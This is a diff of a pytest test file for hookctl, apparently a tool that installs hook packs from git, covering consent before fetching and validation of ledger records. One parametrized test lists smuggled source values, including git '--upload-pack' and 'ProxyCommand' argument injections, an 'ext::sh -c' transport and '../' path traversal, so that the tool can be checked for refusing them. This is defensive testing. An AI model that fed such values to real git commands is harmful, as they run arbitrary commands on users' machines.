+    put(horn.folder / "pack.toml", PACK.format(version="1").replace("bell", "horn"))
+    horn.commit()
+    assert hookctl("install", horn.address, *HOST).code == 0
+    put(horn.folder / "pack.toml", PACK.format(version="2").replace("bell", "horn"))
+    horn.commit()
+    shutil.rmtree(installed.folder)
+    done = hookctl("upgrade", "--yes", "--json", agrees=False)
+    assert (done.code, error_of(done)["code"], error_of(done)["path"]) == (1, "fetch_failed", installed.address)
+    packs = json.loads((isolated / "state" / "ledger.json").read_text())["files"].popitem()[1]["packs"]
+    assert (packs["bell"]["version"], packs["horn"]["version"]) == ("1", "2")
+
+
+def test_a_pack_that_changed_its_name_is_not_taken(installed: Repository, hookctl: Hookctl) -> None:
+    put(installed.folder / "pack.toml", PACK.format(version="2").replace("bell", "horn"))
+    installed.commit()
+    done = hookctl("upgrade", "--yes", "--json", agrees=False)
+    assert (done.code, error_of(done)["code"]) == (1, "source_gone")
+
+
+def test_no_git_runs_where_nothing_from_git_is_installed(
+    repository: Repository, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert hookctl("install", str(repository.folder), *HOST).code == 0
+    monkeypatch.setattr(fetch, "fetched", None)
+    monkeypatch.setenv("PATH", str(isolated))
+    assert hookctl("upgrade", agrees=False).code == 0
+    assert not (isolated / "home" / ".cache").exists()
+
+
+def test_doctor_does_not_fetch(installed: Repository, hookctl: Hookctl, isolated: Path) -> None:
+    shutil.rmtree(installed.folder)
+    assert hookctl("doctor").code == 0
+    (isolated / "data" / "packs" / "bell" / "claude-user" / "ring.sh").unlink()
+    done = hookctl("doctor", "--fix")
+    assert done.code == 1
+    assert "hook_missing" in hookctl("doctor", "--json").out
+
+
+# A project
+
+
+@pytest.fixture
+def team(repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A project in which a colleague has installed the pack, on another machine; its folder."""
+    work = isolated / "work"
+    (work / ".git").mkdir()
+    with monkeypatch.context() as there:
+        there.setenv("HOOKCTL_STATE_DIR", str(isolated / "state-there"))
+        assert hookctl("install", repository.ssh, *PROJECT).code == 0
+    ssh.unlink()
+    return work
+
+
+def ledger(project: Path) -> str:
+    return (project / ".hookctl" / "ledger.json").read_text()
+
+
+def change_ledger(project: Path, old: str, new: str) -> None:
+    text = ledger(project)
+    assert old in text
+    put(project / ".hookctl" / "ledger.json", text.replace(old, new))
+
+
+def test_a_project_record_has_address_commit_and_digest(team: Path, repository: Repository) -> None:
+    line = next(line for line in ledger(team).splitlines() if '"source"' in line)
+    pack = json.loads(line.strip().removesuffix(","))
+    assert (pack["source"], pack["commit"]) == (repository.ssh, repository.git("rev-parse", "HEAD"))
+    assert len(pack["digest"]) == 64 and "consent" not in pack
+
+
+def test_check_never_fetches(
+    team: Path, repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    repository.release("2")
+    monkeypatch.setattr(fetch, "fetched", None)
+    assert hookctl("check", "--require", "bell").code == 0
+    put(team / ".hookctl" / "packs" / "bell" / "ring.sh", "changed\n")
+    done = hookctl("check", "--json")
+    assert (done.code, "pack_changed" in done.out) == (1, True)
+    assert not ssh.exists()
+
+
+@pytest.mark.parametrize("options", [(), ("--json",), ("bell",), ("bell", "--json")])
+def test_an_address_of_a_strangers_record_is_not_fetched_without_a_yes(
+    team: Path, repository: Repository, hookctl: Hookctl, ssh: Path, options: tuple[str, ...]
+) -> None:
+    before = ledger(team)
+    done = hookctl("upgrade", *options, agrees=False)
+    assert done.code == 2
+    assert "known from a project's record alone" in done.out + done.err
+    if "--json" not in options:
+        assert f"address  {repository.ssh}" in done.err
+        assert f"commit   {repository.git('rev-parse', 'HEAD')}" in done.err
+    assert (ssh.exists(), ledger(team)) == (False, before)
+
+
+@pytest.mark.parametrize("options", [("--yes",), ("--dry-run",), ("--dry-run", "--yes")])
+def test_a_yes_to_all_and_a_dry_run_leave_it_and_go_on(
+    team: Path, hookctl: Hookctl, ssh: Path, options: tuple[str, ...]
+) -> None:
+    assert hookctl("install", *HOST).code == 0
+    done = hookctl("upgrade", *options, "--json", agrees=False)
+    assert (done.code, error_of(done)["code"]) == (1, "consent_needed"), done
+    assert "upgrade bell --yes" in error_of(done)["hint"]
+    assert not ssh.exists()
+
+
+def test_with_its_name_and_a_yes_it_is_fetched(team: Path, repository: Repository, hookctl: Hookctl, ssh: Path) -> None:
+    new = repository.release("2", "echo dong\n")
+    assert hookctl("upgrade", "bell", "--yes", "--dry-run", agrees=False).code == 0
+    assert hookctl("upgrade", "bell", "--yes", agrees=False).code == 0
+    assert new in ledger(team)
+    assert (team / ".hookctl" / "packs" / "bell" / "ring.sh").read_text() == "echo dong\n"
+    assert len(ssh.read_text().splitlines()) == 2
+    repository.release("3", "echo dang\n")  # this machine has agreed to the address by now
+    assert hookctl("upgrade", "--yes", agrees=False).code == 0
+    assert hookctl("check").code == 0
+
+
+def test_at_a_terminal_it_is_asked_before_the_fetch_and_before_the_install(
+    team: Path, repository: Repository, hookctl: Hookctl, ssh: Path, answer: Callable[[str], None]
+) -> None:
+    repository.release("2")
+    answer("n\n")
+    assert hookctl("upgrade", agrees=False).code == 2
+    assert not ssh.exists()
+    answer("y\ny\n")
+    done = hookctl("upgrade", agrees=False)
+    assert done.code == 0, done
+    assert done.err.index("Fetch bell from there?") < done.err.index("Install bell?")
+
+
+def test_an_address_that_a_pull_brought_is_asked_for_again(
+    team: Path, repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path
+) -> None:
+    """Consent is to one address, also where the state folder has seen the other one meanwhile."""
+    assert hookctl("install", repository.ssh, *PROJECT).code == 0
+    other = Repository(isolated / "other")
+    change_ledger(team, repository.ssh, other.ssh)
+    assert hookctl("install", *PROJECT).code == 0  # the guard: the user's record follows the committed one
+    ssh.unlink()
+    assert hookctl("upgrade", "bell", agrees=False).code == 2
+    assert not ssh.exists()
+
+
+def test_a_repository_of_this_machine_is_kept_in_the_users_own_record(
+    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    work = isolated / "work"
+    (work / ".git").mkdir()
+    assert hookctl("install", repository.address, *PROJECT).code == 0
+    assert str(repository.folder) not in ledger(work) and "commit" not in ledger(work)
+    assert (pack_of(isolated)["source"], len(pack_of(isolated)["commit"])) == (repository.address, 40)
+    repository.release("2")
+    assert hookctl("upgrade", "--yes", agrees=False).code == 0
+    assert '"version": "2"' in ledger(work)
+    assert hookctl("check").code == 0
+    monkeypatch.setenv("HOOKCTL_STATE_DIR", str(isolated / "state-there"))
+    done = hookctl("upgrade", "--json", agrees=False)
+    assert (done.code, error_of(done)["code"]) == (1, "source_gone")
+
+
+@pytest.mark.parametrize("command", [("upgrade", "bell", "--yes"), ("check",), ("uninstall", "--scope", "project")])
+@pytest.mark.parametrize(
+    "source",
+    [
+        "git+file:///srv/r", "git+https://a:b@h/r", "git+https://h/r@--upload-pack=x", "git+ext::sh -c x", "git+http://h/r",
+        "git+ssh://-oProxyCommand=x/r", "git+https://h/r#subdirectory=../x", "git+https://h/r\\u202e", "GIT+FILE:///srv/r",
+        "../author", "/srv/r",
+    ],
+)  # fmt: skip
+def test_a_record_with_another_source_is_refused(
+    team: Path, repository: Repository, hookctl: Hookctl, ssh: Path, source: str, command: tuple[str, ...]
+) -> None:
+    change_ledger(team, f'"{repository.ssh}"', f'"{source}"')
+    done = hookctl(*command, "--json", agrees=False)
+    assert (done.code, "ledger_unreadable" in done.out) == (1 if command == ("check",) else 4, True), done
+    assert not ssh.exists()
+
+
+@pytest.mark.parametrize("commit", ["", "main", "-x", "A" * 40, "0" * 39])
+def test_a_record_with_no_commit_is_refused(team: Path, repository: Repository, hookctl: Hookctl, commit: str) -> None:
+    change_ledger(team, repository.git("rev-parse", "HEAD"), commit)
+    assert hookctl("upgrade", "bell", "--yes", agrees=False).code == 4
+
+
+def test_a_path_has_no_commit(isolated: Path, repository: Repository, hookctl: Hookctl) -> None:
+    work = isolated / "work"
+    (work / ".git").mkdir()
+    shutil.copytree(repository.folder, work / "bell", ignore=shutil.ignore_patterns(".git"))
+    assert hookctl("install", "./bell", *PROJECT).code == 0
+    change_ledger(work, '"source": "bell/pack.toml"', f'"source": "bell/pack.toml", "commit": "{"0" * 40}"')
+    assert hookctl("upgrade", "--yes", agrees=False).code == 4
+
+
+def test_doctor_names_the_address_in_its_fix(team: Path, repository: Repository, hookctl: Hookctl, ssh: Path) -> None:
+    (team / ".hookctl" / "packs" / "bell" / "ring.sh").unlink()
+    assert "hookctl upgrade bell" in hookctl("doctor").out
+    put(team / ".hookctl" / "packs" / "bell" / "ring.sh", "changed")
+    assert f"hookctl install {repository.ssh} --host claude --scope project --force" in hookctl("doctor").out
+    assert not ssh.exists()
+
+
+def test_a_merge_keeps_the_address(team: Path, repository: Repository, hookctl: Hookctl) -> None:
+    """Both sides of a conflict have it, so the record that doctor makes has it too."""
+    text = ledger(team)
+    lines = text.splitlines(keepends=True)
+    at = next(number for number, line in enumerate(lines) if '"source"' in line)
+    conflict = [
+        "<<<<<<< a\n",
+        lines[at],
+        "=======\n",
+        lines[at].replace('"version": "1"', '"version": "9"'),
+        ">>>>>>> b\n",
+    ]
+    put(team / ".hookctl" / "ledger.json", "".join([*lines[:at], *conflict, *lines[at + 1 :]]))
+    hookctl("doctor", "--fix")
+    assert repository.ssh in ledger(team) and "<<<" not in ledger(team)
+
+
+def test_a_kill_leaves_nothing_running(repository: Repository, isolated: Path, ssh: Path) -> None:
+    """SIGTERM to hookctl ends git and ssh, which are in a session of their own, and clears the cache."""
+    pid = isolated / "pid"
+    (isolated / "ssh-bin" / "ssh").write_text(f"#!/bin/sh\necho $$ > {pid}.new; mv {pid}.new {pid}\nexec sleep 600\n")
+    command = [sys.executable, "-m", "hookctl", "install", repository.ssh, *HOST, "--yes"]
+    child = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 30
+    while not pid.exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    child.terminate()
+    assert child.wait(30) == 130
+    with contextlib.suppress(ProcessLookupError):
+        os.kill(int(pid.read_text()), 0)
+        pytest.fail("ssh still runs")
+    assert is_untouched(isolated)
